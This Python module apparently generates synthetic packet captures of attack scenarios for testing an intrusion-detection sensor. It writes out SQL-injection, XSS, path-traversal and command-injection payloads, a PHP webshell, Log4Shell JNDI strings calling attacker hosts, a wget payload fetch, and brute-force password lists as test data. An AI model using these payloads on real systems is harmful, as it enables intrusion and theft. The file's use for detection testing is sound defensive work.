"""attacks.py -- the hostile traffic of each scenario.

Every function takes the scene, its random generator and a start time (us)
and returns the time of its last frame. Each scenario has its own attacker
address, so in mixed.pcap no threshold of one scenario counts another's
packets. External addresses come from the MaxMind GeoIP test databases
(tests/data/geoip; ranges from ../shared/data/geoip/source-data), so the
sensor's GeoIP fields are known for them:
  81.2.69.170, 81.2.69.200   GB London      (port scan, SSH brute force)
  89.160.20.140              SE Linköping   (web attacks)  AS29518
  216.160.83.60              US Milton      (HTTP brute force)
  2.125.160.220              GB Boxford     (RDP brute force)
  214.0.1.20                 AU Melbourne   (FTP brute force)
  214.0.0.50                 SG Singapore   (MQTT wildcard subscription)
  149.101.100.5              US             (camera's C2 server)
  175.16.199.77              CN Changchun   (exfiltration: a country the city never talks to)
  202.196.224.30 / .66       PH             (multi-stage intrusion: attacker, C2)
The threat-intel contact uses 45.148.10.240, an address of ipsum's level-8
list (stamparm/ipsum @ 5a7c15f, levels/8.txt, The Unlicense; the same list
is rules/intel/ipsum-level8.txt). SYN-flood sources are random public
addresses (spoofed)."""

import apps as A
import background as B
import wire as W
from wire import ACK, SYN, Tcp, Udp

SEC = 1000000

SCANNER = "81.2.69.170"
WEB_ATTACKER = "89.160.20.140"
HTTP_BRUTE = "216.160.83.60"
SSH_BRUTE = "81.2.69.200"
RDP_BRUTE = "2.125.160.220"
FTP_BRUTE = "214.0.1.20"
MQTT_INTRUDER = "214.0.0.50"
CAMERA = "10.30.6.23"
CAMERA_C2 = "149.101.100.5"
EXFIL_SRC = B.QLVB
EXFIL_DST = "175.16.199.77"
INTEL_IP = "45.148.10.240"
INTEL_CLIENT = "10.10.2.41"
TUNNEL_CLIENT = "10.10.4.23"
TUNNEL_DOMAIN = "telemetry-cdn.example"
MS_ATTACKER = "202.196.224.30"
MS_C2 = "202.196.224.66"
MS_VICTIM = B.CTT
FLOOD_TARGET = B.CTT

# Live servers of 10.20.0.0/24 and the ports each listens on.
SERVERS = {"10.20.0.2": (53,), "10.20.0.3": (123,), "10.20.0.10": (80, 443),
           "10.20.0.11": (80, 443, 8080), "10.20.0.12": (22, 80, 443), "10.20.0.13": (445, 3389),
           "10.20.0.14": (21,), "10.20.0.30": (22,), "10.20.0.31": (22,), "10.20.0.40": (8080,),
           "10.20.0.50": (443,), "10.20.0.60": (25, 993)}

# The vertical scan's ports: nmap-style well-known ports, then 1024 upwards: 200 in all.
WELL_KNOWN = [1, 7, 9, 13, 21, 22, 23, 25, 26, 37, 53, 79, 80, 81, 88, 106, 110, 111, 113, 119,
              135, 139, 143, 144, 179, 199, 389, 427, 443, 444, 445, 465, 513, 514, 515, 543, 544,
              548, 554, 587, 631, 646, 873, 990, 993, 995, 1433, 1521, 1723, 2049, 2121, 2323,
              3000, 3306, 3389, 5060, 5432, 5900, 6000, 6379, 8000, 8008, 8080, 8443, 8888, 9000,
              9090, 9200, 10000, 27017]
VERTICAL_PORTS = sorted(set(WELL_KNOWN) | set(range(1024, 1024 + 200 - len(WELL_KNOWN))))
assert len(VERTICAL_PORTS) == 200


def probe(sc, rng, src, dst, dport, t, rtt):
    """One half-open scan probe, answered as the target's ports are."""
    c = Tcp(sc, src, dst, dport, t, rtt_us=rtt, turn_us=rng.randint(60, 300))
    ports = SERVERS.get(dst)
    if ports is None:
        c.syn_only("none")  # no such host
    else:
        c.syn_only("open" if dport in ports else "rst")
    return c


# -- reconnaissance -----------------------------------------------------------------------


def portscan(sc, rng, t0):
    """Horizontal: SYNs to 445 and 23 of 10.20.0.1-62 (124 probes in 6.2 s).
    Vertical, 70 s later: 200 ports of 10.20.0.12 in 4 s."""
    t = t0
    for host in range(1, 63):
        for port in (445, 23):
            probe(sc, rng, SCANNER, "10.20.0.%d" % host, port, t, 180000)
            t += 50000  # 20 probes a second
    t = t0 + 70 * SEC
    ports = list(VERTICAL_PORTS)
    rng.shuffle(ports)
    for port in ports:
        probe(sc, rng, SCANNER, "10.20.0.12", port, t, 180000)
        t += 20000
    return t + 200000


def syn_flood(sc, rng, t0):
    """500 SYNs to 10.20.0.11:80 from spoofed addresses in 1.5 s; the server
    answers each with a SYN-ACK (SYN cookies); nobody completes."""
    used = set()
    t = t0
    for i in range(500):
        while True:
            a = rng.randint(1, 223)
            if a in (10, 100, 127, 169, 172, 192, 198, 203):
                continue
            src = "%d.%d.%d.%d" % (a, rng.randrange(256), rng.randrange(256), rng.randint(1, 254))
            if src not in used:
                used.add(src)
                break
        c = Tcp(sc, src, FLOOD_TARGET, 80, t, turn_us=80)
        c.frame(0, SYN, window=rng.choice((512, 1024, 2048, 5840, 64240)))
        c.frame(1, SYN | ACK, at=t + 80, options=W.SYN_OPTIONS, window=65535)
        t += 3000
    return t


# -- web attacks ---------------------------------------------------------------------------

ATTACK_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/120.0.0.0 Safari/537.36")
JNDI = "${jndi:ldap://89.160.20.140:1389/a}"

# (host, path, extra headers, expected status); the sids each one fires are
# in webattack.expect.json, request by request.
WEB_GETS = [
    ("/tracuu-hoso?maHoSo=000.00.21.H13-240301-0001%27%20OR%20%271%27%3D%271", [], 403),
    ("/tracuu-hoso?maHoSo=1%27%20UNION%20ALL%20SELECT%20NULL%2Cusername%2Cpassword%20FROM%20"
     "nguoidung--%20-", [], 403),
    ("/tracuu-hoso?maHoSo=1%27%20AND%20SLEEP(5)--%20-", [], 403),
    ("/tintuc/timkiem?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", [], 403),
    ("/tintuc/timkiem?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", [], 403),
    ("/tailieu/tai-ve?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", [], 404),
    ("/tailieu/tai-ve?file=../../../../windows/win.ini", [], 404),
    ("/static/..%2f..%2f..%2f..%2fetc%2fshadow", [], 404),
    ("/api/tienich/ping?host=10.20.0.1%3Bcat%20%2Fetc%2Fpasswd", [], 403),
    ("/api/tienich/ping?host=10.20.0.1%7Cid", [], 403),
]


def _web_get(c, host, path, headers=(), status=403, ua=ATTACK_UA):
    reason = {200: "OK", 403: "Forbidden", 404: "Not Found", 400: "Bad Request"}[status]
    body = A.html_page(c.sc.rng, reason, 600) if status == 200 else \
        ("<html><body><h1>%d %s</h1></body></html>" % (status, reason)).encode()
    c.exchange(A.http_request("GET", host, path, ua=ua, headers=headers),
               A.http_response(status, reason, body, ts_us=c.t),
               gap_us=c.sc.rng.randint(300, 1500) * 1000, think_us=c.sc.rng.randint(2000, 9000))


def webattack(sc, rng, t0):
    """Requests 1-20 of webattack.expect.json against the portals (port 80)."""
    rtt = 45000
    host = "dichvucong." + A.GOV
    a = Tcp(sc, WEB_ATTACKER, B.DVC, 80, t0, rtt_us=rtt).open()
    for path, hdrs, status in WEB_GETS:  # requests 1-10
        _web_get(a, host, path, hdrs, status)
    body = (b"host=127.0.0.1%3Bwget%20http%3A%2F%2F89.160.20.140%2Fx.sh%20-O%20%2Ftmp%2Fx.sh")
    a.exchange(A.http_request("POST", host, "/api/tienich/ping", ua=ATTACK_UA, body=body),
               A.http_response(403, "Forbidden", b"", ts_us=a.t), gap_us=800000)  # 11
    a.exchange(A.http_request("POST", host, "/dangnhap", ua=ATTACK_UA,
                              body=b"username=admin%27--&password=x"),
               A.http_response(200, "OK", A.html_page(rng, "Đăng nhập", 900), ts_us=a.t),
               gap_us=800000)  # 12
    _web_get(a, host, "/", ["X-Scan: log4j"], 200,
             ua="${jndi:ldap://89.160.20.140:1389/Basic/Command/Base64/d2dldA==}")  # 13
    _web_get(a, host, "/?lang=" + JNDI, ["X-Api-Version: " + JNDI], 200)  # 14
    _web_get(a, host, "/tintuc", ["X-Forwarded-For: ${${lower:j}ndi:${lower:l}${lower:d}a"
                                  "${lower:p}://89.160.20.140:1389/o}"], 200)  # 16
    a.close(first=0)
    # 15: the lookup as the method; nginx answers 400 and closes
    b = Tcp(sc, WEB_ATTACKER, B.DVC, 80, a.t + 500000, rtt_us=rtt).open()
    b.send(0, ("%s / HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n"
               % (JNDI, host, ATTACK_UA)).encode())
    b.send(1, A.http_response(400, "Bad Request", b"<html><body>400</body></html>",
                              headers=["Connection: close"], ts_us=b.t))
    b.close(first=1)
    # 17-20: webshell upload through the dossier attachment form, then use
    c = Tcp(sc, WEB_ATTACKER, B.DVC, 80, b.t + 2 * SEC, rtt_us=rtt).open()
    boundary = "----WebKitFormBoundaryq7Zx3Lm0a9"
    shell = b"<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); } ?>"
    body = ("--%s\r\nContent-Disposition: form-data; name=\"maHoSo\"\r\n\r\n000.00.21.H13-240302"
            "-0999\r\n--%s\r\nContent-Disposition: form-data; name=\"tep\"; filename=\"bieumau.php"
            "\"\r\nContent-Type: application/x-php\r\n\r\n" % (boundary, boundary)).encode() + \
        shell + ("\r\n--%s--\r\n" % boundary).encode()
    c.exchange(A.http_request("POST", host, "/hoso/dinhkem/upload", ua=ATTACK_UA, body=body,
                              ctype="multipart/form-data; boundary=%s" % boundary),
               A.http_response(200, "OK", b'{"trangThai":"OK","duongDan":"/uploads/dinhkem/'
                               b'bieumau.php"}', ctype="application/json", ts_us=c.t))
    for cmd, out in (("whoami", b"www-data\n"), ("uname%20-a", b"Linux dvc-web01 5.15.0-97-generic"
                                                               b" x86_64 GNU/Linux\n"),
                     ("ls%20-la%20%2Fvar%2Fwww", b"total 12\ndrwxr-xr-x 5 root root 4096 .\n")):
        c.exchange(A.http_request("GET", host, "/uploads/dinhkem/bieumau.php?cmd=" + cmd,
                                  ua=ATTACK_UA),
                   A.http_response(200, "OK", b"<pre>" + out, ts_us=c.t),
                   gap_us=rng.randint(2, 6) * SEC)
    c.close(first=0)
    return c.t


# -- brute force ----------------------------------------------------------------------------


def http_bruteforce(sc, rng, t0):
    """Three connections to the admin login of the information portal:
    10 + 10 refused (401), then 5 refused and the sixth accepted (302),
    followed by the admin dashboard (200)."""
    host = "congthongtin." + A.GOV
    ua = "Mozilla/5.0 (Hydra)"
    t = t0
    words = iter(["123456", "admin123", "matkhau", "Cantho@2023", "qwerty", "P@ssw0rd",
                  "admin@123", "12345678", "quantri", "cantho123", "Admin@2024", "abc123",
                  "111111", "ctt@2024", "iloveyou", "congthongtin", "Password1", "admin2024",
                  "letmein", "welcome", "123456789", "cantho@123", "quantri@1", "dragon",
                  "sunshine", "Cantho@2024"])
    for tries, success in ((10, False), (10, False), (6, True)):
        c = Tcp(sc, HTTP_BRUTE, B.CTT, 80, t, rtt_us=120000).open()
        for k in range(tries):
            form = ("tendangnhap=admin&matkhau=%s" % next(words)).encode()
            req = A.http_request("POST", host, "/quantri/dangnhap", ua=ua, body=form,
                                 browser=False)
            if success and k == tries - 1:
                resp = A.http_response(302, "Found", b"", headers=[
                    "Location: /quantri/bangdieukhien",
                    "Set-Cookie: CTTSESSID=%032x; HttpOnly" % rng.getrandbits(128)], ts_us=c.t)
            else:
                resp = A.http_response(401, "Unauthorized",
                                       b'{"loi":"Sai ten dang nhap hoac mat khau"}',
                                       ctype="application/json", ts_us=c.t)
            c.exchange(req, resp, gap_us=150000 if k else 100, think_us=rng.randint(30000, 90000))
        if success:
            c.exchange(A.http_request("GET", host, "/quantri/bangdieukhien", ua=ua,
                                      browser=False),
                       A.http_response(200, "OK", A.html_page(rng, "Bảng điều khiển", 2000),
                                       ts_us=c.t))
        c.close(first=0)
        t = c.t + 2 * SEC
    return t


def ssh_bruteforce(sc, rng, t0):
    """32 connections to 10.20.0.12:22, one every 2.5 s: three password
    tries each, refused; the last connection logs in and runs a shell."""
    t = t0
    for i in range(32):
        c = Tcp(sc, SSH_BRUTE, B.LINUX_SRV, 22, t, rtt_us=190000).open()
        c.send(0, b"SSH-2.0-libssh_0.9.6\r\n", gap_us=100)
        c.send(1, A.SSH_SERVER_BANNER, gap_us=2000)
        c.send(0, A.ssh_kexinit(rng, False))
        c.send(1, A.ssh_kexinit(rng, True), gap_us=300)
        c.send(0, A.ssh_ecdh_init(rng))
        c.send(1, A.ssh_ecdh_reply(rng) + A.ssh_newkeys(), gap_us=2500)
        c.send(0, A.ssh_newkeys() + A.ssh_encrypted(rng, 44))  # + service request
        c.send(1, A.ssh_encrypted(rng, 44))
        last = i == 31
        for k in range(3):
            c.send(0, A.ssh_encrypted(rng, 80))  # password try
            if last and k == 1:
                c.send(1, A.ssh_encrypted(rng, 28), gap_us=80000)  # success
                break
            c.send(1, A.ssh_encrypted(rng, 44), gap_us=2100000)  # failure after the delay
        if last:
            for n in range(12):
                c.send(0, A.ssh_encrypted(rng, rng.choice((36, 52, 100))),
                       gap_us=rng.randint(200, 1500) * 1000)
                c.send(1, A.ssh_encrypted(rng, rng.randint(36, 1400)))
            c.close(first=0)
        else:
            c.send(1, A.ssh_encrypted(rng, 60))  # disconnect: too many failures
            c.close(first=1, gap_us=200)
        t += 2500000
    return c.t


def rdp_bruteforce(sc, rng, t0):
    """32 connections to 10.20.0.13:3389, one every 2 s: X.224 request with
    an mstshash cookie, TLS, a refused CredSSP/NTLM exchange; the last one
    is accepted and the session continues."""
    t = t0
    users = ["administrator", "admin", "quantri", "Administrator"]
    for i in range(32):
        c = Tcp(sc, RDP_BRUTE, B.WIN_SRV, 3389, t, rtt_us=210000).open()
        c.send(0, A.rdp_connection_request(users[i % len(users)]), gap_us=100)
        c.send(1, A.rdp_connection_confirm())
        hello, _ = A.client_hello(rng, None, alpn=None)
        c.send(0, hello)
        c.send(1, A.server_hello(rng, cipher=0xC030, tls13=False) + A.tls_app_data(rng, 1100))
        c.send(0, A.tls_app_data(rng, 150))  # key exchange + finished
        c.send(1, A.tls_app_data(rng, 60))
        c.send(0, A.tls_app_data(rng, 90))  # NTLM negotiate
        c.send(1, A.tls_app_data(rng, 300))  # challenge
        c.send(0, A.tls_app_data(rng, 560))  # authenticate
        if i < 31:
            c.send(1, A.tls_app_data(rng, 40), gap_us=400000)  # STATUS_LOGON_FAILURE
            c.close(first=1)
        else:
            c.send(1, A.tls_app_data(rng, 60), gap_us=300000)
            for n in range(10):
                c.send(0, A.tls_app_data(rng, rng.randint(40, 300)))
                c.send(1, A.tls_app_data(rng, rng.randint(800, 3000)))
            c.close(first=0)
        t += 2 * SEC
    return c.t


def ftp_bruteforce(sc, rng, t0):
    """Nine connections to 10.20.0.14:21. vsftpd drops a client after three
    failed logins: eight connections x three 530s, then the ninth: one 530
    and a 230, a listing over a passive data connection, QUIT."""
    t = t0
    pw = iter(["admin", "123456", "password", "ftp", "12345", "qwerty", "admin123", "root",
               "cantho", "ftp123", "1234", "test", "abc123", "ftpadmin", "111111", "P@ssw0rd",
               "123123", "guest", "Cantho@123", "letmein", "12345678", "password1", "backup",
               "admin@123", "filesrv", "Ft9@cantho"])
    for i in range(9):
        c = Tcp(sc, FTP_BRUTE, B.FILE_SRV, 21, t, rtt_us=160000, turn_us=400)
        c.open()
        c.send(1, b"220 (vsFTPd 3.0.5)\r\n")
        tries = 3 if i < 8 else 2
        for k in range(tries):
            c.exchange(b"USER admin\r\n", b"331 Please specify the password.\r\n", think_us=300)
            ok = i == 8 and k == 1
            c.exchange(b"PASS %s\r\n" % next(pw).encode(),
                       b"230 Login successful.\r\n" if ok else b"530 Login incorrect.\r\n",
                       think_us=rng.randint(600000, 1000000) if not ok else 2000)
        if i < 8:
            c.close(first=1, gap_us=500)
        else:
            c.exchange(b"PWD\r\n", b'257 "/" is the current directory\r\n', think_us=300)
            port = 30077
            c.exchange(b"PASV\r\n", b"227 Entering Passive Mode (10,20,0,14,%d,%d).\r\n"
                       % (port >> 8, port & 255), think_us=300)
            c.exchange(b"LIST\r\n", b"150 Here comes the directory listing.\r\n", think_us=300)
            d = Tcp(sc, FTP_BRUTE, B.FILE_SRV, port, c.t + 100, rtt_us=160000).open()
            listing = b"".join(b"-rw-r--r--    1 1001     1001       %6d Mar 01 09:%02d %s\r\n"
                               % (rng.randint(20000, 900000), m, n) for m, n in enumerate(
                                   [b"bao_cao_ngan_sach_2024.xlsx", b"ds_can_bo.xlsx",
                                    b"hop_dong_2023.pdf", b"backup_qlvb.sql.gz"]))
            d.send(1, listing, gap_us=300)
            d.close(first=1, gap_us=100)
            c.t = max(c.t, d.t)
            c.send(1, b"226 Directory send OK.\r\n", gap_us=200)
            c.exchange(b"QUIT\r\n", b"221 Goodbye.\r\n", gap_us=3 * SEC, think_us=300)
            c.close(first=1, gap_us=300)
        t = c.t + rng.randint(300, 900) * 1000
    return c.t


# -- DNS tunnel ---------------------------------------------------------------------------

B32 = "abcdefghijklmnopqrstuvwxyz234567"


def _b32(rng, n):
    return "".join(rng.choice(B32) for _ in range(n))


def dns_tunnel(sc, rng, t0):
    """100 TXT queries with two long base32 labels (52-60 and 30-45 chars)
    under t.telemetry-cdn.example, 0.3 s apart, each answered with TXT data;
    then the tunnel server goes away: 60 queries, 0.2 s apart, NXDOMAIN."""
    t = t0
    for i in range(160):
        name = "%s.%s.%04x.t.%s" % (_b32(rng, rng.randint(52, 60)), _b32(rng, rng.randint(30, 45)),
                                    i, TUNNEL_DOMAIN)
        qid = rng.getrandbits(16)
        u = Udp(sc, TUNNEL_CLIENT, B.DNS1, 53, t, turn_us=rng.randint(40000, 90000))
        u.send(0, A.dns_query(qid, name, "TXT"))
        if i < 100:
            u.send(1, A.dns_response(qid, name, "TXT",
                                     [(name, "TXT", [_b32(rng, 120).encode()], 0)]))
            t += 300000
        else:
            u.send(1, A.dns_response(qid, name, "TXT", rcode=3))
            t += 200000
    return t


# -- command and control, exfiltration -------------------------------------------------------


def camera_beacon(sc, rng, t0, count=10, interval_s=60):
    """An IOC camera calls a server abroad every minute (+-0.4 s): HTTP POST
    of its id and a counter, an instruction back."""
    t = t0
    for i in range(count):
        c = Tcp(sc, CAMERA, CAMERA_C2, 8080, t, rtt_us=230000)
        c.open()
        body = b'{"id":"cam-23","fw":"V5.5.0","n":%d}' % i
        c.exchange(A.http_request("POST", "%s:8080" % CAMERA_C2, "/api/v2/hb",
                                  ua="Go-http-client/1.1", body=body, ctype="application/json",
                                  browser=False),
                   A.http_response(200, "OK", b'{"cmd":"sleep","t":60}',
                                   ctype="application/json", ts_us=c.t, server="Apache"))
        c.close(first=0)
        t += interval_s * SEC + rng.randint(-400, 400) * 1000
    return c.t


def exfiltration(sc, rng, t0, size=420000):
    """The document server looks up a file-drop site in China and uploads
    420 kB over TLS, 20 segments per round trip."""
    name = "upload.filedrop-cn.example"
    u = Udp(sc, EXFIL_SRC, B.DNS1, 53, t0, turn_us=60000)
    qid = rng.getrandbits(16)
    u.send(0, A.dns_query(qid, name, "A"))
    u.send(1, A.dns_response(qid, name, "A", [(name, "A", EXFIL_DST, 60)]))
    c = Tcp(sc, EXFIL_SRC, EXFIL_DST, 443, u.t + 2000, rtt_us=180000).open()
    hello, _ = A.client_hello(rng, name)
    c.send(0, hello, gap_us=100)
    c.send(1, A.tls_server_flight(rng, 3000))
    c.send(0, A.tls_client_finish(rng))
    records = b""
    while len(records) < size:
        records += A.tls_app_data(rng, 16384 - 5 - 17)
    c.send(0, records[:size], gap_us=300, burst=20)
    c.send(1, A.tls_app_data(rng, 120), gap_us=400000)
    c.send(0, A.tls_app_data(rng, 19))
    c.close(first=0)
    return c.t


# -- IoT ------------------------------------------------------------------------------------


def mqtt_wildcard(sc, rng, t0):
    """An outside client connects to the broker, subscribes to '#' and
    receives 20 readings, then subscribes to '$SYS/#', then leaves."""
    c = Tcp(sc, MQTT_INTRUDER, B.BROKER, 1883, t0, rtt_us=60000).open()
    c.send(0, A.mqtt_connect("mqttx_5c1f2a9e", keepalive=60), gap_us=200)
    c.send(1, A.mqtt_connack())
    c.send(0, A.mqtt_subscribe(1, [("#", 0)]))
    c.send(1, A.mqtt_suback(1, [0]))
    for k in range(20):
        node = rng.choice(B.SENSORS)
        c.send(1, A.mqtt_publish("cantho/iot/nuoc/mucnuoc/%s" % node.split(".")[-1],
                                 b'{"cm":%d}' % rng.randint(80, 190)),
               gap_us=rng.randint(100, 900) * 1000)
    c.ack(0, at=c.t + c.rtt)
    c.send(0, A.mqtt_subscribe(2, [("$SYS/#", 0)]), gap_us=2 * SEC)
    c.send(1, A.mqtt_suback(2, [0]))
    for topic, val in (("$SYS/broker/version", b"mosquitto version 2.0.11"),
                       ("$SYS/broker/clients/connected", b"23"),
                       ("$SYS/broker/uptime", b"8123456 seconds")):
        c.send(1, A.mqtt_publish(topic, val), gap_us=500)
    c.send(0, A.mqtt_disconnect(), gap_us=3 * SEC)
    c.close(first=0, gap_us=100)
    return c.t


# -- threat intelligence ----------------------------------------------------------------------


def intel_contact(sc, rng, t0):
    """45.148.10.240 (ipsum level 8) probes the portal on 443 and 22; then a
    workstation opens three TLS connections to it, 20 s apart."""
    probe(sc, rng, INTEL_IP, B.DVC, 443, t0, 250000)
    probe(sc, rng, INTEL_IP, B.DVC, 22, t0 + 400000, 250000)
    t = t0 + 5 * SEC
    for i in range(3):
        end = B.tls_session(sc, rng, INTEL_CLIENT, INTEL_IP, t, "cdn-%d.static-files.example" % i,
                            1, 250000)
        t += 20 * SEC
    return end


# -- multi-stage intrusion --------------------------------------------------------------------


def multistage(sc, rng, t0):
    """202.196.224.30 scans 60 ports of the information portal (3 s), sends
    a Log4Shell string in the User-Agent to its Java back end on 8080 (40 s
    later); the portal's JNDI lookup calls back LDAP on 1389 and fetches
    Exploit.class over HTTP on 8000; from 60 s on it beacons over TLS to
    202.196.224.66 every 30 s (8 times); at 300 s it scans 10.20.0.1-40 on
    22, 445 and 3389 (120 probes in 6 s)."""
    ports = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521,
             2049, 3306, 3389, 5432, 5900, 6379, 8000, 8008, 8080, 8081, 8443, 8888, 9000,
             9090, 9200, 9443, 10000, 27017] + list(range(7000, 7025))
    assert len(ports) == 60
    rng.shuffle(ports)
    t = t0
    for p in ports:
        probe(sc, rng, MS_ATTACKER, MS_VICTIM, p, t, 70000)
        t += 50000
    # exploit
    e = Tcp(sc, MS_ATTACKER, MS_VICTIM, 8080, t0 + 40 * SEC, rtt_us=70000).open()
    e.send(0, A.http_request("GET", "congthongtin.%s:8080" % A.GOV, "/web/guest/trang-chu",
                             ua="${jndi:ldap://202.196.224.30:1389/Exploit}", browser=False))
    cb_t = e.t + 60000
    e.send(1, A.http_response(200, "OK", A.html_page(rng, "Trang chủ", 1800), ts_us=e.t,
                              server="Apache-Coyote/1.1"), gap_us=300000)
    e.close(first=0)
    # the JNDI lookup: LDAP to the attacker
    ld = Tcp(sc, MS_VICTIM, MS_ATTACKER, 1389, cb_t, rtt_us=70000, turn_us=3000).open()
    ld.send(0, A.ldap_search_request(1, "Exploit"), gap_us=200)
    ld.send(1, A.ldap_search_entry(1, "Exploit", [
        ("javaClassName", "foo"), ("javaCodeBase", "http://202.196.224.30:8000/"),
        ("objectClass", "javaNamingReference"), ("javaFactory", "Exploit")]) +
        A.ldap_search_done(1))
    ld.close(first=0)
    # the class fetch
    h = Tcp(sc, MS_VICTIM, MS_ATTACKER, 8000, ld.t + 5000, rtt_us=70000, turn_us=1000).open()
    h.exchange(A.http_request("GET", "202.196.224.30:8000", "/Exploit.class", ua="Java/1.8.0_181",
                              browser=False,
                              headers=["Cache-Control: no-cache", "Pragma: no-cache"]),
               A.http_response(200, "OK", A.java_class(rng, 1736), ctype="application/java-vm",
                               ts_us=h.t, server="SimpleHTTP/0.6 Python/3.10.12"))
    h.close(first=1)
    # beacons
    t = t0 + 60 * SEC
    for i in range(8):
        B.tls_session(sc, rng, MS_VICTIM, MS_C2, t, "cdn.jquery-static.example", 1, 70000)
        t += 30 * SEC
    # lateral scan from the victim
    t = t0 + 300 * SEC
    for host in range(1, 41):
        for port in (22, 445, 3389):
            dst = "10.20.0.%d" % host
            if dst != MS_VICTIM:
                probe(sc, rng, MS_VICTIM, dst, port, t, 400)
            else:
                probe(sc, rng, MS_VICTIM, "10.20.0.41", port, t, 400)
            t += 50000
    return t
